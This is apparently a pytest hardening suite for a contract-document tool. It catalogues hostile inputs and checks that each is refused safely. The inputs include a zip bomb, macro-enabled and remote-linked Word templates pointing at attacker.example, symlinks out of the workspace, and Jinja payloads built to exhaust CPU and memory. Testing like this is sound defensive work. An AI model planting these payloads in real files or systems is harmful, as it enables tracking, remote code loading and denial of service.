"""A catalogue of named hostile inputs: each is refused with its exit status and a message that says what is
wrong, within a time and a memory bound, writing nothing and leaving the register as it was."""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from mspdocs.library.report import approve_clauses

from .conftest import MEMORY_BOUND_MIB, TIME_BOUND_S, run_mspdocs, snapshot

GENERATE = ["generate", "agreement", "pinecrest-law"]
CUSTOMER = "customers/pinecrest-law.yaml"


@dataclass(frozen=True)
class Attack:
    """One hostile input: how to plant it, the command that meets it, and what the user must see."""

    id: str
    plant: Callable[[Path], object]
    code: int
    message: str  # a regular expression the one-line error must match
    args: list[str] = field(default_factory=lambda: list(GENERATE))
    env: dict[str, str] = field(default_factory=dict)
    seconds: float = TIME_BOUND_S


def edit(relative: str, pattern: str, replacement: str) -> Callable[[Path], None]:
    def plant(ws: Path) -> None:
        path = ws / relative
        text, count = re.subn(pattern, replacement, path.read_text(encoding="utf-8"), count=1, flags=re.M)
        assert count == 1, f"{pattern!r} not in {relative}"
        path.write_text(text, encoding="utf-8")
    return plant


def replace_file(relative: str, make: Callable[[Path], None]) -> Callable[[Path], None]:
    def plant(ws: Path) -> None:
        path = ws / relative
        path.unlink()
        make(path)
    return plant


def symlink_to(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def fifo(path: Path) -> None:
    os.mkfifo(path)


def big_file(size: int, line: bytes = b"# padding\n") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(line * (size // len(line) + 1))


def profile_append(text: str) -> Callable[[Path], None]:
    def plant(ws: Path) -> None:
        with (ws / "mspdocs.toml").open("a", encoding="utf-8") as profile:
            profile.write(text)
    return plant


def clause(body: str, status: str = "draft", condition: str | None = None, approve: bool = False):
    """A clause of every agreement (`zz.hostile`), as a draft or approved by counsel with the tool."""
    def plant(ws: Path) -> None:
        front = ["---", "id: zz.hostile", "title: Hostile", "category: general", "order: 99", "version: 1",
                 f"status: {status}", "documents: [agreement]"]
        if condition:
            front.append(f"condition: {condition!r}")
        (ws / "clauses" / "zz.hostile.md").write_text("\n".join(front + ["---", body, ""]), encoding="utf-8")
        if approve:
            approve_clauses(ws, ["zz.hostile"], "Counsel", "hardening test")
    return plant


def pasted_approval(ws: Path) -> None:
    """An edited clause whose new hash was pasted into approvals.lock by hand."""
    from mspdocs.workspace.clauses import load_library

    path = ws / "clauses" / "general.entire-agreement.md"
    before = load_library(ws / "clauses")["general.entire-agreement"].text_hash
    path.write_text(path.read_text().replace("Agreement", "Contract"), encoding="utf-8")
    after = load_library(ws / "clauses")["general.entire-agreement"].text_hash
    lock = ws / "clauses" / "approvals.lock"
    lock.write_text(lock.read_text().replace(before, after), encoding="utf-8")


def template(change: Callable[[dict[str, bytes]], None]) -> Callable[[Path], None]:
    """Rewrite templates/agreement.docx with its parts changed by `change`."""
    def plant(ws: Path) -> None:
        path = ws / "templates" / "agreement.docx"
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        change(parts)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts.items():
                archive.writestr(name, data)
        path.write_bytes(buffer.getvalue())
    return plant


def _bomb(parts: dict[str, bytes]) -> None:
    parts["word/media/padding.bin"] = bytes(120 << 20)  # 120 MiB of zeros: about 120 KiB compressed


def _external_image(parts: dict[str, bytes]) -> None:
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://attacker.example/pixel.png" TargetMode="External"/></Relationships>')).encode()


def _attached_template(parts: dict[str, bytes]) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="file://attacker.example/share/evil.dotm" '
        'TargetMode="External"/></Relationships>').encode()


def _macros(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(512)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")


def customer_value(key: str, value: str) -> Callable[[Path], None]:
    return edit(CUSTOMER, rf"^(\s*){key}: .*$", rf"\g<1>{key}: {value}")


def deep_yaml(path: Path) -> None:
    path.write_text("id: pinecrest-law\nlegal_name: " + "[" * 50_000 + "]" * 50_000 + "\n")


def chain_of_references(ws: Path) -> None:
    """1,500 clauses, each referring to the next: lint walks the chain without running out of stack."""
    folder = ws / "clauses"
    for index in range(1500):
        text = (f"---\nid: zz.chain-{index}\ntitle: Chain\ncategory: general\nversion: 1\nstatus: draft\n"
                f"documents: [agreement]\n---\nSee {{{{ ref('zz.chain-{index + 1}') }}}}.\n")
        (folder / f"zz.chain-{index}.md").write_text(text)


def many_revisions(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + b"xref\n0 0\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n" * 5000)


def in_workspace(name: str, make: Callable[[Path], None]) -> Callable[[Path], None]:
    return lambda ws: make(ws / name)


SIGNED = ["signed", "add", "returned.pdf", "--document", "AGR-00000000"]
SIGN = {"MSPDOCS_P12_PASSWORD": "secret"}

ATTACKS = [
    # Customer records.
    Attack("customer-is-a-fifo", replace_file(CUSTOMER, fifo), 2, r"pinecrest-law\.yaml: .*named pipe"),
    Attack("customer-links-to-dev-zero", replace_file(CUSTOMER, symlink_to("/dev/zero")), 2, r"character device"),
    Attack("customer-links-out-of-the-workspace", replace_file(CUSTOMER, symlink_to("/etc/hostname")), 2,
           r"outside the workspace"),
    Attack("customer-file-of-3-mib", replace_file(CUSTOMER, big_file(3 << 20)), 2, r"more than 2 MiB"),
    Attack("customer-not-utf8", replace_file(CUSTOMER, lambda p: p.write_bytes(b"id: \xff\xfe\n")), 2,
           r"not UTF-8"),
    Attack("customer-nested-50000-deep", replace_file(CUSTOMER, deep_yaml), 2, r"pinecrest-law\.yaml"),
    Attack("customer-term-of-5000-digits", customer_value("term_months", "9" * 5000), 2, r"at most 1,200"),
    Attack("customer-term-of-10e40-months", customer_value("term_months", "1" + "0" * 40), 2, r"at most 1,200"),
    Attack("customer-arabic-indic-digits", customer_value("term_months", "\u0661\u0662"), 2, r"digits 0-9"),
    Attack("customer-fee-of-5000-digits", customer_value("monthly_fee", "9" * 5000), 2, r"too large an amount"),
    Attack("customer-negative-zero-fee", customer_value("monthly_fee", "-0"), 2, r"negative zero"),
    Attack("customer-currency-zzz", customer_value("currency", "ZZZ"), 2, r"ISO 4217"),
    Attack("customer-currency-btc", customer_value("currency", "BTC"), 2, r"ISO 4217"),
    Attack("customer-email-without-domain", edit(CUSTOMER, r"tkearney@pinecrestlaw\.example", "tkearney@pinecrest"),
           2, r"not an email address"),
    Attack("customer-name-with-bidi-override", edit(CUSTOMER, r'"Pinecrest Law', '"\\\\u202ePinecrest Law'), 2,
           r"text-direction"),
    Attack("customer-name-with-line-separator", edit(CUSTOMER, r'"Pinecrest Law', '"Pinecrest\\\\u2028Law'), 2,
           r"text-direction|control"),
    Attack("customer-duplicate-key", edit(CUSTOMER, r"^industry: legal$", "industry: legal\nindustry: law"), 2,
           r"duplicate key"),
    # The profile.
    Attack("profile-integer-of-5000-digits", edit("mspdocs.toml", r"^qbr_cadence_days = .*$",
                                                  "qbr_cadence_days = " + "9" * 5000), 2, r"mspdocs\.toml"),
    Attack("profile-output-path-climbs-out", profile_append('\n[paths]\noutput = "../elsewhere"\n'), 2,
           r"inside the workspace"),
    Attack("profile-output-path-absolute", profile_append('\n[paths]\noutput = "/tmp/mspdocs-out"\n'), 2,
           r"inside the workspace"),
    Attack("profile-is-a-fifo", replace_file("mspdocs.toml", fifo), 2, r"mspdocs\.toml: .*named pipe"),
    Attack("profile-render-limit-zero", edit("mspdocs.toml", r"^render_seconds = 3$", "render_seconds = 0"), 2,
           r"render_seconds: must be at least 1"),
    Attack("workspace-path-of-10000-characters", lambda ws: None, 2, r"workspace path is not usable",
           args=["customers", "check"], env={"MSPDOCS_WORKSPACE": "w" * 10_000}),
    # The catalog.
    Attack("catalog-links-to-dev-zero", replace_file("catalog.yaml", symlink_to("/dev/zero")), 2,
           r"catalog\.yaml: .*(character device|outside the workspace)"),
    Attack("catalog-file-of-3-mib", replace_file("catalog.yaml", big_file(3 << 20)), 2, r"more than 2 MiB"),
    # Clauses and approvals.
    Attack("draft-clause-with-nested-loops", clause("{% for i in range(100000) %}{% for j in range(100000) %}"
                                                    "{% endfor %}{% endfor %}"), 1, r"zz\.hostile' is a draft"),
    Attack("draft-condition-with-nested-loops", clause("Text.", condition="range(100000)|map('string')|"
                                                       "join|length > range(100000)|list|length"), 1,
           r"condition is not approved text"),
    Attack("approved-clause-with-nested-loops", clause("{% for i in range(100000) %}{% for j in range(100000) %}"
                                                       "{% endfor %}{% endfor %}", approve=True), 2,
           r"took longer than 3 s"),
    # The clause book renders draft text for review, so it meets the same bounds as an approved clause.
    Attack("clause-book-draft-clause-with-nested-loops", clause("{% for i in range(100000) %}"
                                                                "{% for j in range(100000) %}{% endfor %}{% endfor %}"),
           2, r"took longer than 3 s", args=["generate", "clause-book"]),
    Attack("clause-book-draft-condition-with-nested-loops", clause("Text.", condition="(range(100000)|map('string')|join * 100000)|length > 0"),
           2, r"condition .* cannot be decided: .*sandbox's bounds", args=["generate", "clause-book"]),
    Attack("clause-book-draft-gigabyte-string", clause("{{ 'x'*10**9 }}"), 2, r"sandbox's bounds",
           args=["generate", "clause-book"]),
    Attack("approved-clause-power-10e8", clause("{{ 10**100000000 }}", approve=True), 2, r"sandbox's bounds"),
    Attack("approved-clause-gigabyte-string", clause("{{ 'x'*10**9 }}", approve=True), 2, r"sandbox's bounds"),
    Attack("approved-clause-padding-filter", clause("{{ 'x'|center(1000000000) }}", approve=True), 2,
           r"sandbox's bounds"),
    Attack("approved-clause-format-width", clause("{{ '%0999999999d' % 1 }}", approve=True), 2,
           r"sandbox's bounds"),
    Attack("lint-power-10e8", clause("{{ 10**100000000 }}"), 1, r"", args=["clauses", "lint"]),
    Attack("lint-gigabyte-string", clause("{{ 'x'*10**9 }}"), 1, r"", args=["clauses", "lint"]),
    Attack("lint-constant-filter", clause("{{ 'x'|center(1000000000) }}"), 1, r"", args=["clauses", "lint"]),
    Attack("lint-nested-5000-deep", clause("{% if true %}" * 5000 + "{% endif %}" * 5000), 1, r"",
           args=["clauses", "lint"]),
    # Lint reads and checks each of the 1,500 clauses (a few ms each): bounded by the library's size, not stack.
    Attack("lint-chain-of-1500-references", chain_of_references, 1, r"zz\.chain-1499\].*unknown-reference",
           args=["clauses", "lint"], seconds=40),
    Attack("approval-hash-pasted-into-lock", pasted_approval, 1, r"not in the register"),
    # Word templates.
    Attack("template-zip-bomb", template(_bomb), 2, r"agreement\.docx: refusing a template that unpacks to"),
    Attack("template-external-image", template(_external_image), 2, r"links to an outside resource"),
    Attack("template-attached-remote-template", template(_attached_template), 2, r"links to an outside resource"),
    Attack("template-with-macros", template(_macros), 2, r"macros"),
    Attack("template-not-a-zip", replace_file("templates/agreement.docx", big_file(4096)), 2, r"not a zip"),
    Attack("template-is-a-fifo", replace_file("templates/agreement.docx", fifo), 2, r"named pipe"),
    # Where documents go, and who records them.
    Attack("output-customer-is-a-file", lambda ws: (ws / "output" / "pinecrest-law").write_text("x"), 2,
           r"a file stands where a folder belongs"),
    Attack("output-customer-links-out", lambda ws: (ws / "output" / "pinecrest-law").symlink_to("/tmp"), 2,
           r"outside the workspace"),
    Attack("received-folder-links-out", lambda ws: (ws / "received").symlink_to("/tmp"), 2, r"outside the workspace",
           args=SIGNED),
    Attack("register-links-out", lambda ws: (ws / "register.sqlite3").symlink_to("/tmp/mspdocs-register"), 2,
           r"register\.sqlite3: refusing to use a path outside the workspace"),
    Attack("by-with-a-newline", lambda ws: None, 2, r"--by must be one line", args=GENERATE + ["--by", "a\nb"]),
    Attack("by-with-bidi-override", lambda ws: None, 2, r"--by must be one line",
           args=GENERATE + ["--by", "\u202eevil"]),
    Attack("signer-with-a-newline", in_workspace("returned.pdf", many_revisions), 2, r"--signer must be one line",
           args=SIGNED + ["--signer", "Pat\nDoe", "--signed-on", "2026-12-01"]),
    # Returned PDFs and the signing certificate.
    Attack("returned-pdf-is-a-fifo", in_workspace("returned.pdf", fifo), 2, r"returned\.pdf: .*named pipe",
           args=SIGNED),
    Attack("returned-pdf-of-5000-revisions", in_workspace("returned.pdf", many_revisions), 1, r"5000 revisions",
           args=SIGNED),
    Attack("returned-pdf-of-30-mib", in_workspace("returned.pdf", big_file(30 << 20, b"%PDF-1.7\n")), 1,
           r"larger than 25 MiB", args=SIGNED),
    Attack("pkcs12-garbage", lambda ws: (profile_append('\n[signing]\npkcs12 = "msp.p12"\n')(ws),
                                         (ws / "msp.p12").write_bytes(b"garbage" * 100)), 2,
           r"msp\.p12: signing\.pkcs12: cannot open the signing certificate", args=GENERATE + ["--sign"], env=SIGN),
    Attack("pkcs12-is-a-fifo", lambda ws: (profile_append('\n[signing]\npkcs12 = "msp.p12"\n')(ws),
                                           os.mkfifo(ws / "msp.p12")), 2, r"msp\.p12: .*named pipe",
           args=GENERATE + ["--sign"], env=SIGN),
]


def test_the_catalogue_is_large_and_its_names_unique():
    assert len(ATTACKS) >= 40
    assert len({attack.id for attack in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.id for attack in ATTACKS])
def test_hostile_input_is_refused_in_bounds(attack: Attack, hostile_ws: Path):
    attack.plant(hostile_ws)
    before = snapshot(hostile_ws)
    outcome = run_mspdocs(["-w", str(hostile_ws), *attack.args] if "MSPDOCS_WORKSPACE" not in attack.env
                          else attack.args, cwd=hostile_ws, env=attack.env)
    errors = [line for line in outcome.stderr.splitlines() if line.startswith("mspdocs: error: ")]
    assert outcome.code == attack.code, outcome.stderr + outcome.stdout
    assert "Traceback" not in outcome.stderr, outcome.stderr
    if attack.code == 2:
        assert errors and any(re.search(attack.message, line) for line in errors), outcome.stderr
    else:  # a check that found problems (lint prints its findings; refusals print errors)
        assert re.search(attack.message, outcome.stderr + outcome.stdout), outcome.stderr + outcome.stdout
    assert outcome.seconds < attack.seconds, f"took {outcome.seconds:.1f} s"
    assert outcome.max_rss_mib < MEMORY_BOUND_MIB, f"used {outcome.max_rss_mib:.0f} MiB"
    assert snapshot(hostile_ws) == before  # nothing written, nothing half-written, the register unchanged
